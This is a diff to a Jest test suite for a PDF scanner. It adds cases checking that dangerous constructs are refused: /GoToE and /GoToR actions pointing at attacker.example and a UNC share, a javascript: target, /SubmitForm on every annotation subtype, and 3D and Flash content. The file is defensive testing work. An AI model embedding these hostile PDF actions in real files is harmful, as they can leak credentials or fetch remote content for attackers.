@@ -183,6 +183,11 @@ describe('the catalogues’ techniques, each refused however placed', () => {
     // malicious-pdf: actions that fetch, open or run.
     ['/GoToE into a share', linkAnnotations(`<< /S /GoToE /F ${UNC} /T << /R /C /N (a) >> >>`), 'PDF_ACTION'],
     [
+      '/GoToE to an https address',
+      linkAnnotations('<< /S /GoToE /F (https://attacker.example/x.pdf) /T << /R /C /N (a) >> >>'),
+      'PDF_ACTION',
+    ],
+    [
       '/GoToE to a javascript: address',
       pageObjects('/OpenAction << /S /GoToE /F (javascript:alert(1)) >>'),
       'PDF_ACTION',
@@ -333,6 +338,22 @@ describe('the catalogues’ techniques, each refused however placed', () => {
       'PDF_SCRIPT',
     ],
     [
+      'a 3D model in PRC',
+      annotated('/Subtype /3D /3DD 7 0 R /3DA << /A /PO >>', '', [
+        { num: 7, body: '/Type /3D /Subtype /PRC', stream: Buffer.from('PRC') },
+      ]),
+      'PDF_SCRIPT',
+    ],
+    [
+      'a rich media Flash instance',
+      annotated(
+        '/Subtype /RichMedia /RichMediaContent << /Configurations [<< /Subtype /Flash /Instances [<< /Subtype /Flash /Asset 7 0 R >>] >>] >>',
+        '',
+        [{ num: 7, body: `<< /Type /Filespec /F (v.swf) /UF ${utf16Hex('v.swf')} >>` }],
+      ),
+      'PDF_SCRIPT',
+    ],
+    [
       'a portfolio navigator',
       pageObjects('/Collection << /View /C /Navigator << /Type /Navigator /SWF (nav.swf) >> >>'),
       'PDF_SCRIPT',
@@ -353,5 +374,74 @@ describe('the catalogues’ techniques, each refused however placed', () => {
     ],
   ])('refuses %s', async (_, objects, code) => {
     for (const [where, pdf] of placed(objects)) expect(codes(await inspect(pdf, 'pdf')), where).toContain(code);
+  });
+});
+
+describe('remote targets placed where a destination goes, and /SubmitForm on every annotation', () => {
+  it('refuses a /GoToR into a share kept as a named destination, in /Dests and in a /Names tree through /Kids', async () => {
+    const gotoShare = `<< /S /GoToR /F ${UNC} /D (chapter) >>`;
+    const inDests = [
+      ...pageObjects(`/Dests << /annex ${gotoShare} >>`, '/Annots [6 0 R]'),
+      { num: 6, body: '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /Dest /annex >>' },
+    ];
+    const inTree = [
+      ...pageObjects('/Names << /Dests 7 0 R >> /OpenAction (annex)'),
+      { num: 7, body: '<< /Kids [8 0 R] >>' },
+      { num: 8, body: `<< /Names [(annex) ${gotoShare}] /Limits [(annex) (annex)] >>` },
+    ];
+    for (const objects of [inDests, inTree])
+      for (const [where, pdf] of placed(objects))
+        expect(await judged(pdf), where).toMatchObject({
+          codes: ['PDF_ACTION'],
+          features: ['/GoToR \\\\attacker.example\\share\\x.pdf'],
+        });
+  });
+
+  it('keeps named destinations that are places VALID, an opening one included', async () => {
+    const named = [
+      ...pageObjects('/Names << /Dests << /Names [(annex) << /D [3 0 R /Fit] >>] >> >> /OpenAction (annex)'),
+    ];
+    for (const [where, pdf] of placed(named)) expect(codes(await inspect(pdf, 'pdf')), where).toEqual([]);
+  });
+
+  const SUBTYPES = [
+    'Text',
+    'Link',
+    'FreeText',
+    'Line',
+    'Square',
+    'Circle',
+    'Polygon',
+    'PolyLine',
+    'Highlight',
+    'Underline',
+    'Squiggly',
+    'StrikeOut',
+    'Stamp',
+    'Caret',
+    'Ink',
+    'Popup',
+    'Widget',
+    'Screen',
+    'PrinterMark',
+    'TrapNet',
+    'Watermark',
+    'Redact',
+    'Projection',
+  ];
+
+  it('refuses a /SubmitForm on an annotation of every subtype, by /A and by /AA, and on the page and the catalog', async () => {
+    const submit = `<< /S /SubmitForm /F ${URL_SPEC} >>`;
+    const places = [
+      ...SUBTYPES.flatMap((subtype) => [
+        annotated(`/Subtype /${subtype} /A ${submit}`),
+        annotated(`/Subtype /${subtype} /AA << /U ${submit} >>`),
+      ]),
+      pageObjects('', `/AA << /O ${submit} >>`),
+      pageObjects(`/AA << /WC ${submit} >>`),
+    ];
+    for (const objects of places)
+      for (const [where, pdf] of placed(objects))
+        expect(codes(await inspect(pdf, 'pdf')), where).toContain('PDF_ACTION');
   });
 });
